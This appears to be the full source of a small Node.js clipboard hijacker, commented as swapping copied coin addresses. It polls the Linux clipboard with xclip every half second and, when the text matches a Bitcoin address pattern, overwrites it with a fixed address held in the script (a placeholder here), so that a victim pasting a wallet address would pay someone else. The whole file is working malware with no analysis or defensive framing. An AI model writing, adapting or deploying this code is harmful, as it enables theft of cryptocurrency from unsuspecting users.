// swaps copied coin addresses for another one
const { execFileSync } = require('child_process');
const MINE = 'bc1qplaceholderplaceholderplaceholder0000';
setInterval(() => {
  let t = '';
  try { t = execFileSync('xclip', ['-o', '-selection', 'clipboard']).toString(); } catch { return; }
  if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,42}$/.test(t.trim()) && t !== MINE) {
    execFileSync('xclip', ['-i', '-selection', 'clipboard'], { input: MINE });
  }
}, 500);
